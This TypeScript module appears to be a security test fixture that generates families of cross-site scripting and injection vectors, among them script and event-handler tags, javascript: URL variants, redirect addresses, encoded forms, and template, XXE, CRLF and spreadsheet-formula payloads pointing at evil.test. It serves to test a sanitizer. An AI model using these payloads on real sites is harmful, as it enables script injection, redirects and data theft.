import { VECTORS as ARTICLE_VECTORS } from '../app/platform/security/testArticleHtmlVectors.ts';

// Texts of attackers that try to run scripts in a reader's browser: families times contexts, all with `alert(1)` or
// `evil.test`.

const RUN = 'alert(1)';

const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus tabindex=1',
  'onmouseover',
  'ontoggle',
  'onpointerenter',
];
const ELEMENTS = [
  'img src=x',
  'svg',
  'video src=x',
  'iframe',
  'details open',
  'input',
  'body',
  'a href=#',
  'x',
  'math',
  'audio src',
];

/** Elements that can run scripts by themselves. */
const handlers = ELEMENTS.flatMap((element) =>
  HANDLERS.map((handler) => `<${element} ${handler.replace(/^\w+/, `$&=${RUN}`)}>`),
);

const ENDS = [
  ...[
    '"',
    "'",
    '`',
    '">',
    "'>",
    '">-->',
    ']]>',
    '-->',
    '--!>',
    '\\"',
    "\\'",
    '\\\\"',
    '*/',
    '\n',
    '\u2028',
    '&quot;',
    '&#34;',
    '&#x27;',
  ],
  ...[
    'script',
    'title',
    'style',
    'textarea',
    'noscript',
    'template',
    'select',
    'iframe',
    'xmp',
    'math',
    'svg',
    'a',
    'p',
    'body',
    'html',
  ].map((tag) => `</${tag}>`),
  ...['<!--', '<![CDATA[', '<?', '<!DOCTYPE x [', '\u0000', '%00', '%22%3E', '\ufeff', '{{', '$\u007b', '<%='],
];
const BEGINNINGS = [
  ...[
    '<script>alert(1)</script>',
    '<script src=//evil.test></script>',
    '<svg onload=alert(1)>',
    '<img src=x onerror=alert(1)//',
  ],
  ...[
    ' onmouseover=alert(1) x="',
    ' autofocus onfocus=alert(1) ',
    ';alert(1);//',
    '-alert(1)-',
    '<base href=//evil.test>',
  ],
];

/** Strings that end the context of a text and begin another one. */
const escapes = ENDS.flatMap((end) => BEGINNINGS.map((beginning) => end + beginning));

const SCHEMES = [
  ...[
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    '\tjavascript:',
    'java\tscript:',
    'java\nscript:',
    'java\rscript:',
    '\u0001javascript:',
  ],
  ...[
    '\u00a0javascript:',
    '\u200bjavascript:',
    '\ufeffjavascript:',
    'javascript&colon;',
    'javascript&#58;',
    '&#106;avascript:',
    'jav&#x09;ascript:',
  ],
  ...[
    'javascript%3a',
    'ｊａｖａｓｃｒｉｐｔ:',
    'javascript://evil.test/%0a',
    'javascript://%E2%80%A8',
    'javascript:"/*\'/*`/*--></script>',
    'vbscript:',
  ],
  ...[
    'livescript:',
    'view-source:javascript:',
    'feed:javascript:',
    'jar:javascript:',
    'data:text/html,<script>',
    'data:text/html;base64,PHNjcmlwdD4=',
  ],
  ...[
    'data:image/svg+xml,<svg onload=',
    'data:,',
    'blob:https://evil.test/',
    'filesystem:https://evil.test/',
    'file:///etc/passwd?',
    'about:blank#',
  ],
];

/** Addresses that are not those of a page. */
export const ADDRESSES = [
  ...SCHEMES.map((scheme) => `${scheme}${RUN}`),
  ...[
    '//evil.test',
    '///evil.test',
    '\\\\evil.test',
    '/\\evil.test',
    '/\t/evil.test',
    '/\n/evil.test',
    'https:evil.test',
    'https:/evil.test',
  ],
  ...[
    '//evil.test%2f..',
    '/..//evil.test',
    '/./\\evil.test',
    'http://www.sala.example@evil.test',
    'http://evil.test#@www.sala.example',
  ],
  ...[
    'https://evil.test\\@www.sala.example',
    '//evil.test:80',
    '//[::1]@evil.test',
    'https://evil.test/"onload="alert(1)',
    '/"onerror="alert(1)',
  ],
  ...[
    '/x onerror=alert(1) y=',
    '/x,/y 2x,https://evil.test 3x',
    "/x'-alert(1)-'",
    '/\u2028alert(1)',
    '/\r\nset-cookie: evil.test=1',
    '#"><svg onload=alert(1)>',
  ],
];

const WRITTEN = ['<script>alert(1)</script>', '"onmouseover=alert(1)', 'javascript:alert(1)'];

/** The same in characters that software may normalise to these. */
const encodings = WRITTEN.flatMap((text) => [
  [...text].map((letter) => `&#${letter.codePointAt(0)};`).join(''),
  [...text].map((letter) => `&#x${letter.codePointAt(0)?.toString(16)}`).join(''),
  [...text].map((letter) => `\\u00${letter.codePointAt(0)?.toString(16).padStart(2, '0')}`).join(''),
  encodeURIComponent(text),
  encodeURIComponent(encodeURIComponent(text)),
  text.replaceAll('<', '＜').replaceAll('>', '＞'),
  text.replaceAll('<', '\u00ad<').normalize('NFKD'),
  [...text].join('\u0000'),
  `+ADw-${text}+AD4-`,
  `\u202e${text}`,
  `${text}\ud800`,
  text.replaceAll('<', '&lt;').replaceAll('&', '&amp;'),
]);

/** Strings that software may interpret as its own syntax. */
const programs = [
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    '$\u007balert(1)}',
    '#{alert(1)}',
    '<%= alert(1) %>',
    '[[$\u007balert(1)}]]',
    '{% alert(1) %}',
  ],
  ...[
    '__proto__ alert(1)',
    'constructor alert(1)',
    '$& $` $1 alert(1)',
    '</script><!--<script>alert(1)',
    "');alert(1);//",
    "\\');alert(1);//",
  ],
  ...[
    '"}]}</script><script>alert(1)</script>',
    '"],"@context":"https://evil.test","x":["',
    '\u2029";alert(1);//',
    '\r\nX-Evil: evil.test\r\n\r\nalert(1)',
  ],
  ...[
    'BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:evil.test\r\nEND:VALARM',
    ']]><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  ],
  ...[
    '<!ENTITY x SYSTEM "https://evil.test">&x;',
    '<?xml-stylesheet href="https://evil.test"?>',
    '=HYPERLINK("https://evil.test")',
    '\u001b[31malert(1)',
  ],
];

/** All families by their names. */
const FAMILIES: Record<string, string[]> = {
  ...Object.fromEntries(Object.entries(ARTICLE_VECTORS).map(([name, vectors]) => [`in articles: ${name}`, vectors])),
  handlers,
  escapes,
  addresses: ADDRESSES,
  encodings,
  programs,
};

export const VECTORS = [...new Set(Object.values(FAMILIES).flat())];
